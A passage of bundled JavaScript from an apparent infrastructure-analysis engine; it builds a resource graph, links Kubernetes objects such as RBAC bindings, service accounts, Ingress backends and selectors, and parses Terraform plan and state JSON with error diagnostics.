  /** Changes so far (resources added or replaced, edges linked): what is derived from the graph holds while this stays the same. */
  get revision() {
    return this.#revision;
  }
  /** Adds a resource; a second resource with the same id replaces nothing and is returned as false. */
  add(resource) {
    this.work.resourcesAdded++;
    if (this.#byId.has(resource.id)) return false;
    this.#revision++;
    this.#byId.set(resource.id, resource);
    this.#indexes.delete(resource.type);
    const list = this.#byType.get(resource.type);
    if (list) list.push(resource);
    else this.#byType.set(resource.type, [resource]);
    return true;
  }
  /**
   * Puts `to` in place of `from`: removes resource `from` and moves its
   * edges to `to` (a plan resource taking over the HCL resource that
   * declared it). Edges that would link `to` to itself are dropped.
   */
  replace(from, to) {
    const resource = this.#byId.get(from);
    if (!resource || from === to) return;
    this.#revision++;
    this.#byId.delete(from);
    this.#staleTypes.add(resource.type);
    this.#indexes.delete(resource.type);
    const moved = [...this.#outgoing.get(from) ?? [], ...this.#incoming.get(from) ?? []];
    for (const edge of moved) this.#unlink(edge);
    for (const edge of moved) {
      const next = { ...edge };
      next.from = edge.from === from ? to : edge.from;
      next.to = edge.to === from ? to : edge.to;
      if (next.from !== next.to) this.link(next);
    }
  }
  #unlink(edge) {
    const kinds = this.#edgeKinds.get(edge.from)?.get(edge.to);
    const at = kinds ? kinds.indexOf(edge.kind) : -1;
    if (kinds && at !== -1) {
      kinds.splice(at, 1);
      this.#edgeCount--;
    }
    const outgoing = this.#outgoing.get(edge.from);
    if (outgoing?.includes(edge)) outgoing.splice(outgoing.indexOf(edge), 1);
    const incoming = this.#incoming.get(edge.to);
    if (incoming?.includes(edge)) incoming.splice(incoming.indexOf(edge), 1);
  }
  /** Adds an edge once; edges may name resources that are not in the graph (yet). */
  link(edge) {
    this.work.edgesLinked++;
    let targets = this.#edgeKinds.get(edge.from);
    if (!targets) this.#edgeKinds.set(edge.from, targets = /* @__PURE__ */ new Map());
    const kinds = targets.get(edge.to);
    if (kinds?.includes(edge.kind)) return;
    if (kinds) kinds.push(edge.kind);
    else targets.set(edge.to, [edge.kind]);
    this.#edgeCount++;
    this.#revision++;
    push(this.#outgoing, edge.from, edge);
    push(this.#incoming, edge.to, edge);
  }
  get(id) {
    this.work.graphLookups++;
    return this.#byId.get(id);
  }
  ofType(type) {
    const resources = this.#typeList(type) ?? [];
    this.work.graphLookups++;
    this.work.itemsReturned += resources.length;
    return resources;
  }
  #typeList(type) {
    const list = this.#byType.get(type);
    if (!list || !this.#staleTypes.has(type)) return list;
    this.#staleTypes.delete(type);
    const current = list.filter((resource) => this.#byId.get(resource.id) === resource);
    this.#byType.set(type, current);
    return current;
  }
  /** How many resources of `type` there are, without handing them over. */
  countOf(type) {
    this.work.graphLookups++;
    return this.#typeList(type)?.length ?? 0;
  }
  /**
   * The resources of `type` that `keyOf` gives `key` (or a list holding it),
   * through an index built on the first question: "the settings resource
   * that names this bucket" costs a lookup, not a scan of every resource of
   * the type for each bucket. `index` names the key function; the index is
   * dropped when a resource of the type is added or replaced.
   */
  findBy(type, index, keyOf, key) {
    let byName = this.#indexes.get(type);
    if (!byName) this.#indexes.set(type, byName = /* @__PURE__ */ new Map());
    let byKey = byName.get(index);
    if (!byKey) {
      byKey = /* @__PURE__ */ new Map();
      for (const resource of this.#typeList(type) ?? []) {
        const keys = keyOf(resource);
        if (keys === void 0) continue;
        for (const each of typeof keys === "string" ? [keys] : new Set(keys)) push(byKey, each, resource);
      }
      this.work.itemsReturned += this.#typeList(type)?.length ?? 0;
      byName.set(index, byKey);
    }
    const found = byKey.get(key) ?? [];
    this.work.graphLookups++;
    this.work.itemsReturned += found.length;
    return found;
  }
  types() {
    return this.#byType.keys();
  }
  resources() {
    this.work.graphLookups++;
    this.work.itemsReturned += this.#byId.size;
    return this.#byId.values();
  }
  get size() {
    return this.#byId.size;
  }
  edgesFrom(id, kind) {
    const edges = this.#outgoing.get(id) ?? [];
    this.work.graphLookups++;
    this.work.itemsReturned += edges.length;
    return kind ? edges.filter((edge) => edge.kind === kind) : edges;
  }
  edgesTo(id, kind) {
    const edges = this.#incoming.get(id) ?? [];
    this.work.graphLookups++;
    this.work.itemsReturned += edges.length;
    return kind ? edges.filter((edge) => edge.kind === kind) : edges;
  }
  edges() {
    this.work.graphLookups++;
    this.work.itemsReturned += this.#edgeCount;
    return [...this.#outgoing.values()].flat();
  }
  /** Resources that `id` points to by edges of `kind`, present in the graph. */
  targets(id, kind) {
    return this.edgesFrom(id, kind).map((edge) => this.#byId.get(edge.to)).filter((resource) => resource !== void 0);
  }
  /** Resources that point at `id` by edges of `kind`, present in the graph. */
  sources(id, kind) {
    return this.edgesTo(id, kind).map((edge) => this.#byId.get(edge.from)).filter((resource) => resource !== void 0);
  }
};
function push(map, key, value) {
  const list = map.get(key);
  if (list) list.push(value);
  else map.set(key, [value]);
}

// packages/engine/src/graph/kubernetes/scope.ts
var CLUSTER_SCOPED_KINDS = /* @__PURE__ */ new Set([
  "Namespace",
  "Node",
  "PersistentVolume",
  "StorageClass",
  "ClusterRole",
  "ClusterRoleBinding",
  "CustomResourceDefinition",
  "PriorityClass",
  "ValidatingWebhookConfiguration",
  "MutatingWebhookConfiguration",
  "ValidatingAdmissionPolicy",
  "ValidatingAdmissionPolicyBinding",
  "IngressClass",
  "PodSecurityPolicy",
  "RuntimeClass",
  "CSIDriver",
  "CSINode",
  "VolumeAttachment",
  "CertificateSigningRequest",
  "APIService"
]);
var DEFAULT_NAMESPACE = "default";
function isClusterScoped(kind) {
  return CLUSTER_SCOPED_KINDS.has(kind);
}
function kubernetesId(apiVersion, kind, namespace, name) {
  return namespace === void 0 ? `kubernetes:${apiVersion}/${kind}/${name}` : `kubernetes:${apiVersion}/${kind}/${namespace}/${name}`;
}
function kubernetesName(kind, namespace, name) {
  return namespace === void 0 ? `${kind}/${name}` : `${kind}/${namespace}/${name}`;
}
function namespaceOf(resource) {
  if (isClusterScoped(resource.type)) return void 0;
  const namespace = getPath(resource.attributes, ["metadata", "namespace"]);
  return typeof namespace === "string" && namespace !== "" ? namespace : DEFAULT_NAMESPACE;
}
function metadataName(resource) {
  const name = getPath(resource.attributes, ["metadata", "name"]);
  return typeof name === "string" || typeof name === "number" ? String(name) : void 0;
}
function apiGroupOf(resource) {
  const apiVersion = getPath(resource.attributes, ["apiVersion"]);
  if (typeof apiVersion !== "string") return void 0;
  const slash = apiVersion.indexOf("/");
  return slash === -1 ? "" : apiVersion.slice(0, slash);
}
function isBuiltIn(resource, groups) {
  if (resource.platform !== "kubernetes") return false;
  const group = apiGroupOf(resource);
  return group !== void 0 && groups.includes(group);
}

// packages/engine/src/graph/kubernetes/ingress-edges.ts
function linkIngressBackends(graph, objects) {
  for (const ingress of graph.ofType("Ingress")) {
    const namespace = namespaceOf(ingress);
    if (!isBuiltIn(ingress, ["networking.k8s.io", "extensions"]) || namespace === void 0) continue;
    for (const { service, via } of backendServices(ingress.attributes)) {
      graph.link({ from: ingress.id, to: objects.idOf("Service", namespace, service, "v1"), kind: "references", via });
    }
  }
}
function backendServices(ingress) {
  const found = [];
  const addBackend = (backend, path15) => {
    if (!isObject(backend)) return;
    const current = getPath(backend, ["service", "name"]);
    if (typeof current === "string") found.push({ service: current, via: [...path15, "service", "name"] });
    else if (typeof backend.serviceName === "string") found.push({ service: backend.serviceName, via: [...path15, "serviceName"] });
  };
  addBackend(getPath(ingress, ["spec", "defaultBackend"]), ["spec", "defaultBackend"]);
  addBackend(getPath(ingress, ["spec", "backend"]), ["spec", "backend"]);
  const rules = getPath(ingress, ["spec", "rules"]);
  if (!Array.isArray(rules)) return found;
  rules.forEach((rule, ruleIndex) => {
    const paths = getPath(rule, ["http", "paths"]);
    if (!Array.isArray(paths)) return;
    paths.forEach((entry, pathIndex) => {
      addBackend(getPath(entry, ["backend"]), ["spec", "rules", ruleIndex, "http", "paths", pathIndex, "backend"]);
    });
  });
  return found;
}

// packages/engine/src/graph/kubernetes/object-index.ts
var ObjectIndex = class {
  constructor(graph, kinds) {
    this.graph = graph;
    for (const kind of kinds) {
      for (const resource of graph.ofType(kind)) {
        const name = metadataName(resource);
        if (resource.platform !== "kubernetes" || name === void 0) continue;
        const key = lookupKey(kind, namespaceOf(resource), name);
        if (!this.#ids.has(key)) this.#ids.set(key, resource.id);
      }
    }
  }
  graph;
  #ids = /* @__PURE__ */ new Map();
  /** `namespace` is undefined for cluster-scoped kinds. */
  idOf(kind, namespace, name, usualApiVersion) {
    return this.#ids.get(lookupKey(kind, namespace, name)) ?? kubernetesId(usualApiVersion, kind, namespace, name);
  }
};
function lookupKey(kind, namespace, name) {
  return `${kind}${namespace ?? ""}${name}`;
}

// packages/engine/src/graph/kubernetes/label-selector.ts
var OPERATORS = /* @__PURE__ */ new Set(["In", "NotIn", "Exists", "DoesNotExist"]);
function labelValue(value) {
  if (typeof value === "string") return value;
  if (typeof value === "number" || typeof value === "boolean") return String(value);
  return void 0;
}
function labelsOf(value) {
  const labels = /* @__PURE__ */ new Map();
  if (!isObject(value)) return labels;
  for (const [key, raw] of Object.entries(value)) {
    const text = labelValue(raw);
    if (text !== void 0) labels.set(key, text);
  }
  return labels;
}
function serviceSelector(value) {
  const labels = labelsOf(value);
  if (labels.size === 0) return void 0;
  return [...labels].map(([key, label]) => ({ key, operator: "In", values: [label] }));
}
function labelSelector(value) {
  if (value === void 0 || value === null) return [];
  if (!isObject(value)) return void 0;
  const requirements = [];
  for (const [key, label] of labelsOf(value.matchLabels)) requirements.push({ key, operator: "In", values: [label] });
  const expressions = value.matchExpressions;
  if (expressions !== void 0 && expressions !== null) {
    if (!Array.isArray(expressions)) return void 0;
    for (const expression of expressions) {
      if (!isObject(expression) || typeof expression.key !== "string" || typeof expression.operator !== "string") return void 0;
      if (!OPERATORS.has(expression.operator)) return void 0;
      const values = Array.isArray(expression.values) ? expression.values.map(labelValue).filter((item) => item !== void 0) : [];
      requirements.push({ key: expression.key, operator: expression.operator, values });
    }
  }
  return requirements;
}
function matchesSelector(selector, labels) {
  return selector.every((requirement) => {
    const label = labels.get(requirement.key);
    switch (requirement.operator) {
      case "In":
        return label !== void 0 && requirement.values.includes(label);
      case "NotIn":
        return label === void 0 || !requirement.values.includes(label);
      case "Exists":
        return label !== void 0;
      case "DoesNotExist":
        return label === void 0;
    }
  });
}

// packages/engine/src/graph/kubernetes/pod-index.ts
var PodIndex = class _PodIndex {
  constructor(work = newWorkCounters()) {
    this.work = work;
  }
  work;
  #namespaces = /* @__PURE__ */ new Map();
  static fromGraph(graph) {
    const index = new _PodIndex(graph.work);
    for (const kind of WORKLOAD_KINDS) {
      for (const resource of graph.ofType(kind)) {
        if (resource.platform === "kubernetes") index.add(resource);
      }
    }
    return index;
  }
  add(resource) {
    const labelsPath = podTemplateLabelsPath(resource.type);
    const namespace = namespaceOf(resource);
    if (!labelsPath || namespace === void 0) return;
    const entry = { resource, labels: labelsOf(getPath(resource.attributes, labelsPath)) };
    let pods = this.#namespaces.get(namespace);
    if (!pods) {
      pods = { all: [], byLabel: /* @__PURE__ */ new Map(), byKey: /* @__PURE__ */ new Map() };
      this.#namespaces.set(namespace, pods);
    }
    pods.all.push(entry);
    for (const [key, value] of entry.labels) {
      push2(pods.byLabel, `${key}=${value}`, entry);
      push2(pods.byKey, key, entry);
    }
  }
  /** Workloads of `namespace` whose pods match `selector`. */
  select(namespace, selector) {
    const pods = this.#namespaces.get(namespace);
    if (!pods) return [];
    const found = candidates(pods, selector);
    this.work.selectorComparisons += found.length;
    return found.filter((entry) => matchesSelector(selector, entry.labels)).map((entry) => entry.resource);
  }
};
function candidates(pods, selector) {
  let best = pods.all;
  for (const requirement of selector) {
    let narrowed;
    if (requirement.operator === "In") {
      narrowed = requirement.values.flatMap((value) => pods.byLabel.get(`${requirement.key}=${value}`) ?? []);
    } else if (requirement.operator === "Exists") {
      narrowed = pods.byKey.get(requirement.key) ?? [];
    }
    if (narrowed && narrowed.length < best.length) best = narrowed;
    if (best.length === 0) break;
  }
  return best;
}
function push2(map, key, value) {
  const list = map.get(key);
  if (list) list.push(value);
  else map.set(key, [value]);
}

// packages/engine/src/graph/kubernetes/rbac-edges.ts
var RBAC_API_VERSION = "rbac.authorization.k8s.io/v1";
function linkRoleBindings(graph, objects) {
  for (const kind of ["RoleBinding", "ClusterRoleBinding"]) {
    for (const binding of graph.ofType(kind)) {
      if (!isBuiltIn(binding, ["rbac.authorization.k8s.io"])) continue;
      const bindingNamespace = namespaceOf(binding);
      const roleKind = getPath(binding.attributes, ["roleRef", "kind"]);
      const roleName = getPath(binding.attributes, ["roleRef", "name"]);
      if ((roleKind === "Role" || roleKind === "ClusterRole") && typeof roleName === "string") {
        const roleNamespace = roleKind === "Role" ? bindingNamespace ?? DEFAULT_NAMESPACE : void 0;
        const to = objects.idOf(roleKind, roleNamespace, roleName, RBAC_API_VERSION);
        graph.link({ from: binding.id, to, kind: "binds", via: ["roleRef"] });
      }
      const subjects = getPath(binding.attributes, ["subjects"]);
      if (!Array.isArray(subjects)) continue;
      subjects.forEach((subject, index) => {
        if (!isObject(subject) || subject.kind !== "ServiceAccount" || typeof subject.name !== "string") return;
        const namespace = typeof subject.namespace === "string" && subject.namespace !== "" ? subject.namespace : bindingNamespace ?? DEFAULT_NAMESPACE;
        const to = objects.idOf("ServiceAccount", namespace, subject.name, "v1");
        graph.link({ from: binding.id, to, kind: "binds", via: ["subjects", index] });
      });
    }
  }
}

// packages/engine/src/graph/kubernetes/service-account-edges.ts
var DEFAULT_SERVICE_ACCOUNT = "default";
var SERVICE_ACCOUNT_FIELDS = ["serviceAccountName", "serviceAccount"];
function linkServiceAccounts(graph, objects) {
  for (const kind of WORKLOAD_KINDS) {
    for (const workload of graph.ofType(kind)) {
      const namespace = namespaceOf(workload);
      const podSpec = podSpecOf(workload);
      if (!podSpec || namespace === void 0) continue;
      const field = SERVICE_ACCOUNT_FIELDS.find((key) => {
        const value = podSpec.spec[key];
        return typeof value === "string" && value !== "";
      });
      const name = field ? String(podSpec.spec[field]) : DEFAULT_SERVICE_ACCOUNT;
      graph.link({
        from: workload.id,
        to: objects.idOf("ServiceAccount", namespace, name, "v1"),
        kind: "uses",
        ...field ? { via: [...podSpec.path, field] } : {}
      });
    }
  }
}

// packages/engine/src/graph/kubernetes/selector-edges.ts
function linkServiceSelectors(graph, pods) {
  for (const service of graph.ofType("Service")) {
    const namespace = namespaceOf(service);
    if (!isBuiltIn(service, [""]) || namespace === void 0) continue;
    const selector = serviceSelector(getPath(service.attributes, ["spec", "selector"]));
    if (!selector) continue;
    for (const workload of pods.select(namespace, selector)) {
      graph.link({ from: service.id, to: workload.id, kind: "selects", via: ["spec", "selector"] });
    }
  }
}
function linkNetworkPolicySelectors(graph, pods) {
  for (const policy of graph.ofType("NetworkPolicy")) {
    const namespace = namespaceOf(policy);
    if (!isBuiltIn(policy, ["networking.k8s.io", "extensions"]) || namespace === void 0) continue;
    const selector = labelSelector(getPath(policy.attributes, ["spec", "podSelector"]));
    if (!selector) continue;
    for (const workload of pods.select(namespace, selector)) {
      graph.link({ from: policy.id, to: workload.id, kind: "selects", via: ["spec", "podSelector"] });
    }
  }
}

// packages/engine/src/graph/kubernetes/edges.ts
var REFERENCED_KINDS = ["Role", "ClusterRole", "ServiceAccount", "Service"];
function linkKubernetes(graph) {
  const pods = PodIndex.fromGraph(graph);
  const objects = new ObjectIndex(graph, REFERENCED_KINDS);
  linkServiceSelectors(graph, pods);
  linkNetworkPolicySelectors(graph, pods);
  linkRoleBindings(graph, objects);
  linkServiceAccounts(graph, objects);
  linkIngressBackends(graph, objects);
}

// packages/engine/src/graph/kubernetes/build-kubernetes.ts
function buildKubernetes(documents, graph) {
  for (const document of documents) {
    try {
      addDocument(document, graph);
    } catch (error) {
      graph.diagnostics.push(documentFailure("Kubernetes", document, error));
    }
  }
  linkKubernetes(graph);
}
function addDocument(document, graph) {
  const root = document.root;
  const kind = scalarText(mapGet(root, "kind"));
  const apiVersion = scalarText(mapGet(root, "apiVersion"));
  const items = mapGet(root, "items");
  if (root.kind === "map" && kind !== void 0 && apiVersion !== void 0 && kind.endsWith("List") && items?.kind === "list") {
    const defaults = { apiVersion, ...kind !== "List" ? { kind: kind.slice(0, -"List".length) } : {} };
    items.items.forEach((item, index) => addObject(item, { document, item: index }, graph, defaults));
    return;
  }
  addObject(root, { document }, graph);
}
function addObject(node, place, graph, defaults) {
  const kind = scalarText(mapGet(node, "kind")) ?? defaults?.kind;
  const apiVersion = scalarText(mapGet(node, "apiVersion")) ?? defaults?.apiVersion;
  if (node.kind !== "map" || kind === void 0 || kind === "" || apiVersion === void 0 || apiVersion === "") {
    reportNotAnObject(node, place, graph);
    return;
  }
  const metadata = mapGet(node, "metadata");
  const name = scalarText(mapGet(metadata, "name")) || placeLabel(place);
  const clusterScoped = isClusterScoped(kind);
  const namespace = clusterScoped ? void 0 : scalarText(mapGet(metadata, "namespace")) || DEFAULT_NAMESPACE;
  const source = new SourceMap(place.document.file, node.range, headerRange(node), node);
  const resource = {
    id: kubernetesId(apiVersion, kind, namespace, name),
    platform: "kubernetes",
    origin: "kubernetes",
    type: kind,
    name: kubernetesName(kind, namespace, name),
    attributes: treeToValue(node),
    source
  };
  if (!graph.add(resource)) graph.add({ ...resource, id: `${resource.id}@${placeLabel(place)}` });
}
function headerRange(node) {
  const kind = mapEntry(node, "kind");
  if (kind) return { start: kind.keyRange.start, end: kind.value.range.end };
  const first = node.entries[0];
  return first ? { start: first.keyRange.start, end: first.value.range.end } : node.range;
}
function reportNotAnObject(node, place, graph) {
  if (place.document.kind !== "kubernetes") return;
  const where = place.item === void 0 ? `document ${place.document.index + 1}` : `item ${place.item} of document ${place.document.index + 1}`;
  graph.diagnostics.push({
    level: "warning",
    code: "kubernetes-not-an-object",
    message: `${where} of ${place.document.file} is not a Kubernetes object (it needs apiVersion and kind); it was not checked`,
    file: place.document.file,
    range: { file: place.document.file, ...node.range }
  });
}
function placeLabel(place) {
  const document = `${place.document.file}#${place.document.index}`;
  return place.item === void 0 ? document : `${document}.items[${place.item}]`;
}
function scalarText(node) {
  if (!node || node.kind !== "scalar" || node.value === null) return void 0;
  return String(node.value);
}

// packages/engine/src/load/plan.ts
var SUPPORTED_MAJORS = /* @__PURE__ */ new Set([0, 1]);
function readPlan(document) {
  const reader = new PlanReader(document.file);
  const plan = reader.read(document);
  return { plan, diagnostics: reader.diagnostics };
}
function findConfigModule(configuration, modulePath) {
  return configuration.modules.get(pathKey(modulePath));
}
function findConfigResource(configuration, modulePath, configAddress) {
  return findConfigModule(configuration, modulePath)?.resources.get(configAddress);
}
var PlanReader = class {
  constructor(file) {
    this.file = file;
  }
  file;
  diagnostics = [];
  read(document) {
    const root = this.map(document.root, "the document");
    if (!root) return void 0;
    const kind = document.kind === "state" ? "state" : "plan";
    const fields = entriesOf(root);
    const plan = {
      file: this.file,
      kind,
      formatVersion: this.formatVersion(root, fields.get("format_version")),
      terraformVersion: this.optionalString(fields.get("terraform_version")?.value, "terraform_version"),
      variables: this.variables(fields.get("variables")?.value),
      resourceChanges: [],
      resourceDrift: [],
      plannedResources: [],
      priorStateResources: [],
      stateResources: []
    };
    if (kind === "state") {
      const rootModule = this.rootModule(fields.get("values")?.value, "values");
      if (rootModule) this.valuesModule(rootModule, "values.root_module", plan.stateResources);
      else this.error(root.range, "state JSON has no values.root_module");
      return plan;
    }
    const changes = fields.get("resource_changes");
    const planned = fields.get("planned_values");
    if (!changes && !planned) this.error(root.range, "plan JSON has no resource_changes or planned_values");
    if (changes) plan.resourceChanges = this.changes(changes.value, "resource_changes");
    const drift = fields.get("resource_drift");
    if (drift) plan.resourceDrift = this.changes(drift.value, "resource_drift");
    if (planned) {
      const rootModule = this.rootModule(planned.value, "planned_values");
      if (rootModule) this.valuesModule(rootModule, "planned_values.root_module", plan.plannedResources);
    }
    const prior = fields.get("prior_state");
    if (prior) {
      const priorState = this.map(prior.value, "prior_state");
      const rootModule = priorState && this.rootModule(mapValue(priorState, "values"), "prior_state.values");
      if (rootModule) this.valuesModule(rootModule, "prior_state.values.root_module", plan.priorStateResources);
    }
    const configuration = fields.get("configuration");
    if (configuration) plan.configuration = this.configuration(configuration.value);
    return plan;
  }
  formatVersion(root, entry) {
    if (!entry) {
      this.error(root.range, "no format_version: not the output of terraform show -json");
      return "";
    }
    const version = this.optionalString(entry.value, "format_version");
    if (version === void 0) return "";
    const major = Number(version.split(".")[0]);
    if (!Number.isInteger(major)) {
      this.warning(entry.value.range, `format_version ${JSON.stringify(version)} is not a version number; reading it as 1.x`);
    } else if (!SUPPORTED_MAJORS.has(major)) {
      this.warning(
        entry.value.range,
        `format_version ${version} is a newer major version than this reader understands (0.x and 1.x); reading it as 1.x, some settings may be misread`
      );
    }
    return version;
  }
  variables(node) {
    if (!node) return [];
    const variables = this.map(node, "variables");
    if (!variables) return [];
    return variables.entries.map((entry) => {
      const value = entry.value.kind === "map" ? mapValue(entry.value, "value") : void 0;
      return { name: entry.key, value, range: { start: entry.keyRange.start, end: entry.value.range.end } };
    });
  }
  changes(node, section) {
    const list = this.list(node, section);
    if (!list) return [];
    const changes = [];
    list.items.forEach((item, position) => {
      const where = `${section}[${position}]`;
      const entry = this.entry(item, where);
      if (!entry) return;
      const fields = entriesOf(entry.node);
      const change = this.map(fields.get("change")?.value, `${where}.change`);
      if (!change) return;
      const changeFields = entriesOf(change);
      const actions = this.actions(changeFields.get("actions")?.value, `${where}.change.actions`, change.range);
      if (!actions) return;
      const after = changeFields.get("after")?.value;
      if (after && after.kind !== "map" && !isNull(after)) {
        this.error(after.range, `${where}.change.after is not an object`);
        return;
      }
      changes.push({
        ...entry,
        actions,
        deposed: this.optionalString(fields.get("deposed")?.value, `${where}.deposed`),
        before: changeFields.get("before")?.value,
        after,
        afterUnknown: changeFields.get("after_unknown")?.value,
        beforeSensitive: changeFields.get("before_sensitive")?.value,
        afterSensitive: changeFields.get("after_sensitive")?.value
      });
    });
    return changes;
  }
  actions(node, where, fallback) {
    if (!node) {
      this.error(fallback, `${where} is missing`);
      return void 0;
    }
    const list = this.list(node, where);
    if (!list) return void 0;
    const actions = [];
    for (const item of list.items) {
      if (item.kind !== "scalar" || typeof item.value !== "string") {
        this.error(item.range, `${where} holds a non-string action`);
        return void 0;
      }
      actions.push(item.value);
    }
    return actions;
  }
  rootModule(node, section) {
    if (!node) return void 0;
    const values = this.map(node, section);
    const rootModule = values && mapValue(values, "root_module");
    return rootModule && this.map(rootModule, `${section}.root_module`);
  }
  /** A values-representation module and its child modules, depth first, into `out`. */
  valuesModule(module, where, out) {
    const fields = entriesOf(module);
    const resources = fields.get("resources");
    const list = resources && this.list(resources.value, `${where}.resources`);
    list?.items.forEach((item, position) => {
      const entry = this.entry(item, `${where}.resources[${position}]`);
      if (!entry) return;
      const entryFields = entriesOf(entry.node);
      out.push({ ...entry, values: entryFields.get("values")?.value, sensitiveValues: entryFields.get("sensitive_values")?.value });
    });
    const children = fields.get("child_modules");
    const childList = children && this.list(children.value, `${where}.child_modules`);
    childList?.items.forEach((child, position) => {
      const childWhere = `${where}.child_modules[${position}]`;
      const childModule = this.map(child, childWhere);
      if (childModule) this.valuesModule(childModule, childWhere, out);
    });
  }
  /** The identity fields every resource entry has; an entry without a usable address is skipped with an error. */
  entry(node, where) {
    const map = this.map(node, where);
    if (!map) return void 0;
    const fields = entriesOf(map);
    const addressEntry = fields.get("address");
    if (!addressEntry) {
      this.error(map.range, `${where} has no address`);
      return void 0;
    }
    const address = this.optionalString(addressEntry.value, `${where}.address`);
    if (address === void 0) return void 0;
    const parsed = parseResourceAddress(address);
    if (!parsed) {
      this.error(addressEntry.value.range, `${where}.address ${JSON.stringify(address)} is not a resource instance address`);
      return void 0;
    }
    return {
      ...parsed,
      // The explicit fields win over the parsed address where both exist: they are what Terraform meant.
      mode: this.optionalString(fields.get("mode")?.value, `${where}.mode`) ?? parsed.mode,
      type: this.optionalString(fields.get("type")?.value, `${where}.type`) ?? parsed.type,
      name: this.optionalString(fields.get("name")?.value, `${where}.name`) ?? parsed.name,
      node: map,
      header: { start: addressEntry.keyRange.start, end: addressEntry.value.range.end }
    };
  }
  configuration(node) {
    const configuration = this.map(node, "configuration");
    if (!configuration) return void 0;
    const modules = /* @__PURE__ */ new Map();
    const rootModule = mapValue(configuration, "root_module");
    if (rootModule) {
      const root = this.map(rootModule, "configuration.root_module");
      if (root) this.configModule(root, [], "configuration.root_module", modules, {});
    }
    return { modules };
  }
  configModule(module, path15, where, modules, call) {
    const fields = entriesOf(module);
    const config = { ...call, path: path15, outputs: /* @__PURE__ */ new Map(), resources: /* @__PURE__ */ new Map(), calls: [] };
    modules.set(pathKey(path15), config);
    const outputs = fields.get("outputs");
    const outputMap = outputs && this.map(outputs.value, `${where}.outputs`);
    for (const output of outputMap?.entries ?? []) {
      const expression = output.value.kind === "map" ? mapValue(output.value, "expression") : void 0;
      if (expression) config.outputs.set(output.key, expression);
    }
    const resources = fields.get("resources");
    const resourceList = resources && this.list(resources.value, `${where}.resources`);
    resourceList?.items.forEach((item, position) => {
      const resource = this.configResource(item, path15, `${where}.resources[${position}]`);
      if (resource) config.resources.set(resource.address, resource);
    });
    const calls = fields.get("module_calls");
    const callMap = calls && this.map(calls.value, `${where}.module_calls`);
    for (const entry of callMap?.entries ?? []) {
      const callWhere = `${where}.module_calls.${entry.key}`;
      const callNode = this.map(entry.value, callWhere);
      if (!callNode) continue;
      const callFields = entriesOf(callNode);
      const child = callFields.get("module");
      const childModule = child && this.map(child.value, `${callWhere}.module`);
      config.calls.push(entry.key);
      const expressions = callFields.get("expressions");
      this.configModule(childModule ?? emptyMap(callNode.range), [...path15, entry.key], `${callWhere}.module`, modules, {
        callExpressions: expressions && this.map(expressions.value, `${callWhere}.expressions`),
        countExpression: callFields.get("count_expression")?.value,
        forEachExpression: callFields.get("for_each_expression")?.value,
        range: { start: entry.keyRange.start, end: callNode.range.end },
        source: this.optionalString(callFields.get("source")?.value, `${callWhere}.source`)
      });
    }
  }
  configResource(node, modulePath, where) {
    const map = this.map(node, where);
    if (!map) return void 0;
    const fields = entriesOf(map);
    const address = this.optionalString(fields.get("address")?.value, `${where}.address`);
    const type = this.optionalString(fields.get("type")?.value, `${where}.type`);
    const name = this.optionalString(fields.get("name")?.value, `${where}.name`);
    if (address === void 0 || type === void 0 || name === void 0) {
      this.error(map.range, `${where} needs an address, a type and a name`);
      return void 0;
    }
    const expressions = fields.get("expressions");
    return {
      modulePath,
      address,
      mode: this.optionalString(fields.get("mode")?.value, `${where}.mode`) ?? (address.startsWith("data.") ? "data" : "managed"),
      type,
      name,
      expressions: expressions && this.map(expressions.value, `${where}.expressions`),
      countExpression: fields.get("count_expression")?.value,
      forEachExpression: fields.get("for_each_expression")?.value,
      dependsOn: this.strings(fields.get("depends_on")?.value, `${where}.depends_on`),
      range: map.range,
      node: map
    };
  }
  strings(node, where) {
    if (!node) return [];
    const list = this.list(node, where);
    if (!list) return [];
    const strings = [];
    for (const item of list.items) {
      if (item.kind === "scalar" && typeof item.value === "string") strings.push(item.value);
      else this.error(item.range, `${where} holds ${describe(item)}, expected a string`);
    }
    return strings;
  }
  optionalString(node, where) {
    if (!node || isNull(node)) return void 0;
    if (node.kind === "scalar" && typeof node.value === "string") return node.value;
    this.error(node.range, `${where} is ${describe(node)}, expected a string`);
    return void 0;
  }
  map(node, where) {
    if (!node || isNull(node)) return void 0;
    if (node.kind === "map") return node;
    this.error(node.range, `${where} is ${describe(node)}, expected an object`);
    return void 0;
  }
  list(node, where) {
    if (isNull(node)) return void 0;
    if (node.kind === "list") return node;
    this.error(node.range, `${where} is ${describe(node)}, expected an array`);
    return void 0;
  }
  error(range2, cause) {
    this.report("error", "plan-shape", range2, cause);
  }
  warning(range2, cause) {
    this.report("warning", "plan-format-version", range2, cause);
  }
  report(level, code, range2, cause) {
    const { line, column } = range2.start;
    this.diagnostics.push({
      level,
      code,
      message: cause,
      file: this.file,
      range: { file: this.file, ...range2 }
    });
  }
};
var NAME = /[A-Za-z_][\w-]*/y;
var DIGITS = /\d+/y;
function splitAddress(text) {
  const steps = [];
  let offset = 0;
  for (; ; ) {
    NAME.lastIndex = offset;
    const name = NAME.exec(text);
    if (!name) return void 0;
    const start = offset;
    offset += name[0].length;
    const nameEnd = offset;
    let index;
    if (text[offset] === "[") {
      offset++;
      DIGITS.lastIndex = offset;
      const digits = DIGITS.exec(text);
      if (digits) {
        index = Number(digits[0]);
        offset += digits[0].length;
      } else if (text[offset] === '"') {
        const close = closingQuote(text, offset);
        if (close < 0) return void 0;
        index = JSON.parse(text.slice(offset, close + 1));
        offset = close + 1;
      } else {
        return void 0;
      }
      if (text[offset] !== "]") return void 0;
      offset++;
    }
    steps.push({ name: name[0], index, start, nameEnd, end: offset });
    if (offset === text.length) return steps;
    if (text[offset] !== ".") return void 0;
    offset++;
  }
}
function closingQuote(text, open) {
  for (let offset = open + 1; offset < text.length; offset++) {
    const char = text[offset];
    if (char === "\\") offset++;
    else if (char === '"') return offset;
  }
  return -1;
}
function parseResourceAddress(address) {
  const steps = splitAddress(address);
  if (!steps) return void 0;
  const modulePath = [];
  let at = 0;
  while (steps[at]?.name === "module" && at + 2 < steps.length && steps[at].index === void 0) {
    modulePath.push(steps[at + 1].name);
    at += 2;
  }
  const moduleAddress = at === 0 ? "" : address.slice(0, steps[at].start - 1);
  let mode = "managed";
  if (steps[at].name === "data" && steps[at].index === void 0 && at + 3 === steps.length) {
    mode = "data";
    at++;
  }
  if (at + 2 !== steps.length || steps[at].index !== void 0 || steps[at].name === "module") return void 0;
  const type = steps[at];
  const name = steps[at + 1];
  return {
    address,
    moduleAddress,
    modulePath,
    configAddress: address.slice(mode === "data" ? steps[at - 1].start : type.start, name.nameEnd),
    mode,
    type: type.name,
